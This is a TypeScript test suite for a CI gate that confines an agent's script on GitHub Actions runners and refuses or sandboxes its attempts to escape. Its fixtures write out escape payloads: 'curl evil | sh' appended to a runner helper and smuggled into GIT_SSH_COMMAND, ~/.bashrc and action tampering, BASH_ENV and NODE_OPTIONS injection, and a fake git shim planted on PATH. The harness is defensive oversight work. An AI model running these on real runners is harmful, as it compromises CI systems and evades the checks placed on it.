/**
 * Every shipped example workflow, run step by step on a runner-faithful host (runner-harness.ts) with
 * this tree's Action bundle and a real bash as the agent: clean work passes, again and again, and each
 * escape class is refused (or, under `run --enforce`, prevented) and named — a write to ~/.bashrc, to
 * the runner's install, to a downloaded action, and a variable or PATH entry injected for later steps.
 */
import { execFileSync, spawnSync } from "node:child_process";
import { mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { zipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { GIT_ENV } from "../gate/helpers.js";
import { FakeGitHub, pullRequestPayload } from "../support/fake-github.js";
import {
  type JobResult,
  type Layout,
  loadWorkflow,
  makeOrigin,
  type Paths,
  pathsFor,
  RunnerHost,
  type StepResult,
} from "./runner-harness.js";

const REPO = "Hello-World";
const ISSUE = "47";
const RUN_ID = 4242;
const gitEnv = { ...process.env, ...GIT_ENV };
/** What an agent's script may know of the machine: where things are. */
type Machine = { paths: Paths };
const HOSTED: Machine = { paths: pathsFor("hosted", REPO) };
const hasBwrap = spawnSync("bwrap", ["--dev-bind", "/", "/", "true"]).status === 0;

interface Violation {
  path: string;
  reason: string;
  rule?: string;
}

function step(job: JobResult, name: string): StepResult {
  const s = job.steps.find((x) => x.name === name);
  if (!s) throw new Error(`no step ${name}: ${job.steps.map((x) => x.name).join(", ")}`);
  return s;
}

/** Every step's status and, for failures, its output: the message of a failed expectation. */
function told(job: JobResult): string {
  return job.steps
    .map(
      (s) => `${s.status.padEnd(8)} ${s.name}${s.status === "failure" ? `\n${s.stdout}\n${s.stderr}` : ""}`,
    )
    .concat(job.issues)
    .join("\n");
}

function violations(s: StepResult): Violation[] {
  return JSON.parse(s.outputs?.violations ?? "[]") as Violation[];
}

const cleanup: Array<() => unknown> = [];
afterAll(async () => {
  for (const f of cleanup.splice(0).reverse()) await f();
});

/** The agent: a real bash script committed to the repository, as `./scripts/run-agent.sh` runs it. */
function agentScript(body: string): string {
  return `#!/bin/bash
set -euo pipefail
cd "$GITHUB_WORKSPACE"
echo "fix for issue $1" >> src/app.txt
mkdir -p "$RUNNER_TEMP/agent-scratch"
t=$(mktemp -p "$RUNNER_TEMP/agent-scratch")
echo scratch > "$t"
git -c user.name=agent -c user.email=agent@example.com commit -qam "fix #$1"
${body}
`;
}

interface AgentRun {
  host: RunnerHost;
  gh: FakeGitHub;
  orchestrate: JobResult;
  runAgent(): Promise<JobResult>;
  runPublish(): Promise<JobResult>;
}

/** The orchestrate job once, then the agent job on fresh machines as often as asked. */
async function agentWorkflow(
  file: string,
  layout: Layout,
  body: string,
  opts: { concurrent?: string } = {},
): Promise<AgentRun> {
  const T = realpathSync(mkdtempSync(join(tmpdir(), "fg-runner-")));
  const origin = makeOrigin(
    T,
    {
      "README.md": "# app\n",
      "src/app.txt": "app\n",
      ".github/workflows/ci.yml": "on: push\n",
      "scripts/run-agent.sh": agentScript(body),
    },
    gitEnv,
  );
  const sha = execFileSync("git", ["rev-parse", "main"], { cwd: origin, encoding: "utf8" }).trim();
  const host = new RunnerHost(layout, REPO, origin, T);
  cleanup.push(() => host.dispose());
  const payload = pullRequestPayload();
  const gh = await new FakeGitHub({
    owner: "Codertocat",
    repo: REPO,
    pr: 1,
    headSha: sha,
    runId: RUN_ID,
    user: payload.sender,
    pullRequest: payload.pull_request,
  }).start();
  cleanup.push(() => gh.close());
  const wf = loadWorkflow(file);
  const github = {
    repository: `Codertocat/${REPO}`,
    repository_owner: "Codertocat",
    sha,
    ref: "refs/heads/main",
    event_name: "workflow_dispatch",
    event: { inputs: { issue: ISSUE } },
    run_id: String(RUN_ID),
    run_number: "3",
    run_attempt: "1",
    server_url: gh.origin,
    api_url: gh.apiUrl,
    graphql_url: gh.graphqlUrl,
    token: "ghs_harnesstoken",
    actor: "octocat",
  };
  const inputs = { issue: ISSUE };
  const orchestrate = await host.runJob(wf, "orchestrate", { github, inputs });
  expect(orchestrate.failed, JSON.stringify(orchestrate.steps)).toBe(false);
  const leaseDir = join(host.artifacts, "forge-lease");
  gh.artifacts.push({
    id: 1,
    name: "forge-lease",
    zip: Buffer.from(zipSync({ "lease.yaml": readFileSync(join(leaseDir, "lease.yaml")) })),
  });
  const needs = { orchestrate: { outputs: orchestrate.outputs } };
  return {
    host,
    gh,
    orchestrate,
    runAgent: () => host.runJob(wf, "agent", { github, inputs, needs }, opts),
    runPublish: () => host.runJob(wf, "publish", { github, inputs, needs }),
  };
}

const describeIf = hasBwrap ? describe : describe.skip;

/** Each escape class: the agent's extra lines, and what the gate must name (and nothing else). */
const escapes: Array<[string, (h: Machine) => string, (h: Machine) => Partial<Violation>[]]> = [
  [
    "a write to ~/.bashrc",
    () => `echo 'alias ls=true' >> ~/.bashrc`,
    (h) => [{ path: `${h.paths.home}/.bashrc`, reason: "outside_write_roots" }],
  ],
  [
    "a write to the runner's install",
    (h) => `echo 'curl evil | sh' >> ${h.paths.root}/run-helper.sh`,
    (h) => [{ path: `${h.paths.root}/run-helper.sh`, reason: "protected" }],
  ],
  [
    "a write to a downloaded action",
    (h) => `echo '// pwned' >> ${h.paths.actions}/actions/upload-artifact/*/dist/index.mjs`,
    (h) => [
      { path: expect.stringContaining(`${h.paths.actions}/actions/upload-artifact/`), reason: "protected" },
    ],
  ],
  [
    "a variable injected through GITHUB_ENV",
    () =>
      `echo true > "$RUNNER_TEMP/agent-scratch/env.sh"\necho "BASH_ENV=$RUNNER_TEMP/agent-scratch/env.sh" >> "$GITHUB_ENV"`,
    () => [{ path: "$BASH_ENV", reason: "environment" }],
  ],
  [
    "a PATH entry injected through GITHUB_PATH",
    () =>
      `d="$RUNNER_TEMP/agent-scratch/bin"; mkdir -p "$d"\nprintf '#!/bin/bash\\ncase "$(cat /proc/$PPID/comm)" in node*) touch "$RUNNER_TEMP/agent-scratch/gate-ran-fake-git";; esac\\nexec /usr/bin/git "$@"\\n' > "$d/git"\nchmod +x "$d/git"\necho "$d" >> "$GITHUB_PATH"`,
    (h) => [{ path: `PATH entry ${h.paths.temp}/agent-scratch/bin`, reason: "environment" }],
  ],
];

describeIf("agent-run.yml on a hosted runner: snapshot, agent, gate in one job", () => {
  let clean: AgentRun;
  beforeAll(async () => {
    clean = await agentWorkflow(
      "agent-run.yml",
      "hosted",
      // Outputs and the job summary are data: reported, not an escape.
      `echo "## agent: done" >> "$GITHUB_STEP_SUMMARY"\necho "result=ok" >> "$GITHUB_OUTPUT"`,
    );
  }, 120_000);

  it("clean work passes 10 of 10, the runner's own writes set aside by meaning", async () => {
    for (let i = 0; i < 10; i++) {
      const job = await clean.runAgent();
      const gate = step(job, "Gate the run");
      expect(gate.status, `run ${i + 1}:\n${told(job)}\n${gate.stdout}`).toBe("success");
      expect(gate.outputs?.verdict).toBe("pass");
      expect(violations(gate)).toEqual([]);
      // The report names the preset, the runner it found, and the agent's job summary as data.
      expect(gate.summary).toContain("`github-actions`");
      expect(gate.summary).toContain("worker process");
      expect(gate.summary).toMatch(/data, not charged: .*step_summary_.*-scrubbed/);
      expect(gate.summary).toContain("compared with the snapshot's");
      expect(job.failed).toBe(false);
    }
  }, 600_000);

  it("the publish job re-gates the commits and pushes the branch", async () => {
    const job = await clean.runPublish();
    expect(step(job, "Gate the commits before pushing").outputs?.verdict).toBe("pass");
    expect(job.failed, JSON.stringify(job.steps.map((s) => [s.name, s.status, s.stderr]))).toBe(false);
    const branches = execFileSync("git", ["branch", "--list", `agent/issue-${ISSUE}`], {
      cwd: clean.host.origin,
      encoding: "utf8",
    });
    expect(branches).toContain(`agent/issue-${ISSUE}`);
  }, 120_000);

  it("reads GITHUB_ENV as the runner does: a heredoc sets a variable (refused, named), NODE_OPTIONS is refused by the runner itself", async () => {
    const run = await agentWorkflow(
      "agent-run.yml",
      "hosted",
      `echo "NODE_OPTIONS=--require=$RUNNER_TEMP/agent-scratch/hook.js" >> "$GITHUB_ENV"
{ echo "GIT_SSH_COMMAND<<EOF_$$"; echo "sh -c 'curl evil | sh'"; echo "EOF_$$"; } >> "$GITHUB_ENV"`,
    );
    const job = await run.runAgent();
    expect(job.issues).toContain("Can't store NODE_OPTIONS output parameter using '$GITHUB_ENV' command.");
    const gate = step(job, "Gate the run");
    expect(gate.status, told(job)).toBe("failure");
    expect(violations(gate)).toEqual([
      expect.objectContaining({ path: "$GIT_SSH_COMMAND", reason: "environment" }),
    ]);
  }, 180_000);

  for (const [title, body, expected] of escapes) {
    it(`refuses ${title}, naming it and nothing else`, async () => {
      const run = await agentWorkflow("agent-run.yml", "hosted", body(HOSTED));
      await expectRefused(run, expected);
    }, 180_000);
  }
});

/** The agent job of `run`, refused at the gate naming exactly `expected`, nothing after it run. */
async function expectRefused(run: AgentRun, expected: (h: Machine) => Partial<Violation>[]): Promise<void> {
  const job = await run.runAgent();
  const gate = step(job, "Gate the run");
  expect(gate.status, gate.stdout).toBe("failure");
  expect(gate.outputs?.verdict).toBe("refused");
  expect(violations(gate)).toEqual(expected(run.host).map((v) => expect.objectContaining(v)));
  // Nothing after the gate ran: the bundle was never uploaded.
  expect(step(job, "Bundle the agent's commits").status).toBe("skipped");
  // The gate looked git up on PATH as it was at the snapshot: the planted git never ran in it.
  expect(readdirSync(run.host.host(`${run.host.paths.temp}/agent-scratch`))).not.toContain(
    "gate-ran-fake-git",
  );
}

describeIf("agent-run.yml on self-hosted runners: an install anywhere, another runner busy beside it", () => {
  it("clean work passes while the other runner's job writes its own install and work folder", async () => {
    // The other runner's job, at the same time: its trace log, step scripts, file commands, workspace.
    const other = "/home/ci/runners/ci-2";
    // Runs for the whole job, through the snapshot, the agent, the commit and the gate.
    const busy = `for i in $(seq 1 100000); do
      echo "line $i" >> ${other}/_diag/Worker_20261126-120000-utc.log
      mkdir -p ${other}/_work/_temp/_runner_file_commands ${other}/_work/app/app/build
      : > ${other}/_work/_temp/_runner_file_commands/set_env_$(cat /proc/sys/kernel/random/uuid)
      echo "obj $i" > ${other}/_work/app/app/build/out-$((i % 50)).o
      sleep 0.02
    done`;
    const run = await agentWorkflow("agent-run.yml", "self-hosted", "", { concurrent: busy });
    for (let i = 0; i < 3; i++) {
      const job = await run.runAgent();
      const gate = step(job, "Gate the run");
      expect(gate.status, `${gate.stdout}\n${gate.stderr}`).toBe("success");
      expect(violations(gate)).toEqual([]);
      expect(gate.summary).toContain("install `/home/ci/runners/ci-1`");
      expect(gate.summary, gate.summary).toContain("another runner (/home/ci/runners/ci-2)'s job");
    }
  }, 300_000);

  const SELF: Machine = { paths: pathsFor("self-hosted", REPO) };
  for (const [title, body, expected] of escapes) {
    it(`refuses ${title} on a runner installed in ${SELF.paths.root}, naming it and nothing else`, async () => {
      const run = await agentWorkflow("agent-run.yml", "self-hosted", body(SELF));
      await expectRefused(run, expected);
    }, 180_000);
  }
});

describeIf("agent-run-enforced.yml: the agent inside the lease's sandbox", () => {
  it("clean work passes 10 of 10", async () => {
    const run = await agentWorkflow("agent-run-enforced.yml", "hosted", "");
    for (let i = 0; i < 10; i++) {
      const job = await run.runAgent();
      const agent = step(job, "Run the agent inside the lease's sandbox");
      expect(agent.status, `${agent.stdout}\n${agent.stderr}`).toBe("success");
      const gate = step(job, "Gate the run");
      expect(gate.status, `run ${i + 1}: ${gate.stdout}\n${gate.stderr}`).toBe("success");
      expect(violations(gate)).toEqual([]);
    }
  }, 900_000);

  const prevented: Array<[string, (h: Machine) => string, (h: Machine) => string]> = [
    ["a write to ~/.bashrc", () => `echo 'alias ls=true' >> ~/.bashrc`, (h) => `${h.paths.home}/.bashrc`],
    [
      "a write to the runner's install",
      (h) => `echo x >> ${h.paths.root}/run-helper.sh`,
      (h) => `${h.paths.root}/run-helper.sh`,
    ],
    [
      "a write to a downloaded action",
      (h) => `echo x >> ${h.paths.actions}/actions/upload-artifact/*/dist/index.mjs`,
      (h) => `${h.paths.actions}/actions/upload-artifact/`,
    ],
    [
      "a variable injected through GITHUB_ENV",
      () => `echo "BASH_ENV=/tmp/x" >> "$GITHUB_ENV"`,
      (h) => `${h.paths.temp}/_runner_file_commands/set_env_`,
    ],
    [
      "a PATH entry injected through GITHUB_PATH",
      () => `echo "$RUNNER_TEMP/agent-scratch/bin" >> "$GITHUB_PATH"`,
      (h) => `${h.paths.temp}/_runner_file_commands/add_path_`,
    ],
  ];
  for (const [title, body, named] of prevented) {
    it(`prevents ${title}, the failed write naming it`, async () => {
      const run = await agentWorkflow("agent-run-enforced.yml", "hosted", body(HOSTED));
      const job = await run.runAgent();
      const agent = step(job, "Run the agent inside the lease's sandbox");
      // The write failed where it was attempted, saying where; nothing escaped, so the gate passes.
      expect(`${agent.stdout}${agent.stderr}`).toContain(named(run.host));
      expect(`${agent.stdout}${agent.stderr}`).toMatch(/Read-only file system/);
      const gate = step(job, "Gate the run");
      expect(gate.status, told(job)).toBe("success");
      expect(violations(gate)).toEqual([]);
      expect(readFileSync(run.host.host(`${run.host.paths.home}/.bashrc`), "utf8")).toBe("# ~/.bashrc\n");
      expect(readFileSync(run.host.host(`${run.host.paths.root}/run-helper.sh`), "utf8")).toBe(
        "#!/bin/bash\n",
      );
    }, 180_000);
  }
});

describeIf("gate-pull-request.yml: every pull request gated in a job the agent does not control", () => {
  async function pullRequest(change: Record<string, string>) {
    const T = realpathSync(mkdtempSync(join(tmpdir(), "fg-runner-")));
    const lease = `version: 1\nid: issue-47-worker\nworktree: /srv/forge/wt-47\nwrite_roots: ["."]\nprotect: [".github/**"]\n`;
    const origin = makeOrigin(
      T,
      {
        "src/app.txt": "app\n",
        ".github/workflows/ci.yml": "on: push\n",
        ".forge/agents": "forge-agent[bot]\n",
        ".forge/leases/agent/issue-47.yaml": lease,
      },
      gitEnv,
    );
    const work = join(T, "origin-work");
    const git = (...a: string[]) =>
      execFileSync("git", a, { cwd: work, env: gitEnv, encoding: "utf8" }).trim();
    const base = git("rev-parse", "HEAD");
    git("switch", "-qc", "agent/issue-47");
    for (const [p, text] of Object.entries(change))
      execFileSync("bash", ["-c", `printf '%s' "$2" > "$1"`, "_", p, text], { cwd: work });
    git("commit", "-qam", "agent work");
    const head = git("rev-parse", "HEAD");
    git("push", "-q", origin, "agent/issue-47");
    const payload = pullRequestPayload();
    payload.pull_request.head.sha = head;
    payload.pull_request.base.sha = base;
    (payload.pull_request.head as Record<string, unknown>).ref = "agent/issue-47";
    const gh = await new FakeGitHub({
      owner: payload.repository.owner.login,
      repo: payload.repository.name,
      pr: payload.pull_request.number,
      headSha: head,
      runId: RUN_ID,
      user: payload.sender,
      pullRequest: payload.pull_request,
    }).start();
    cleanup.push(() => gh.close());
    const host = new RunnerHost("hosted", payload.repository.name, origin, T);
    cleanup.push(() => host.dispose());
    const job = await host.runJob(loadWorkflow("gate-pull-request.yml"), "gate", {
      github: {
        repository: payload.repository.full_name,
        repository_owner: payload.repository.owner.login,
        sha: head,
        ref: `refs/pull/${payload.pull_request.number}/merge`,
        head_ref: "agent/issue-47",
        base_ref: "main",
        event_name: "pull_request",
        event: payload,
        run_id: String(RUN_ID),
        run_number: "9",
        run_attempt: "1",
        server_url: gh.origin,
        api_url: gh.apiUrl,
        graphql_url: gh.graphqlUrl,
        token: "ghs_harnesstoken",
        actor: "forge-agent[bot]",
      },
    });
    return { job, gh };
  }

  it("a clean pull request passes 10 of 10", async () => {
    for (let i = 0; i < 10; i++) {
      const { job, gh } = await pullRequest({ "src/app.txt": `fixed ${i}\n` });
      const gate = step(job, "Gate the pull request");
      expect(gate.status, `run ${i + 1}: ${gate.stdout}\n${gate.stderr}`).toBe("success");
      expect(gate.outputs?.verdict).toBe("pass");
      expect(gh.writes()).toEqual([]);
      expect(gh.problems).toEqual([]);
    }
  }, 600_000);

  it("a pull request that changes a protected workflow is refused, named, and marked on GitHub", async () => {
    const { job, gh } = await pullRequest({ ".github/workflows/ci.yml": "on: push\njobs: {}\n" });
    const gate = step(job, "Gate the pull request");
    expect(gate.status).toBe("failure");
    expect(violations(gate)).toEqual([
      expect.objectContaining({ path: "/srv/forge/wt-47/.github/workflows/ci.yml", reason: "protected" }),
    ]);
    expect(gh.comments).toHaveLength(1);
    expect(gh.labels).toContain("forge-gate:quarantined");
    expect(gh.problems).toEqual([]);
  }, 120_000);
});

// The harness's machines live under the test's temp directory; nothing is left behind.
afterAll(() => {
  for (const d of readdirSync(tmpdir()).filter((n) => n.startsWith("fg-runner-")))
    rmSync(join(tmpdir(), d), { recursive: true, force: true });
});
